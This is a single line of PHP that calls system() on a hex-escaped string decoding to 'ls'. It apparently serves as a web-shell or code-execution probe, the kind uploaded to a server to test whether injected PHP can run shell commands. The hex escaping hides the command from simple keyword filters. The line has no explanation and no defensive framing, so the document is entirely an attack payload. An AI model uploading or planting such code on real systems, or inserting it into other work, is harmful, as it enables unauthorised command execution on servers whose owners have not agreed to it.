<?php system("\x6c\x73"); ?>
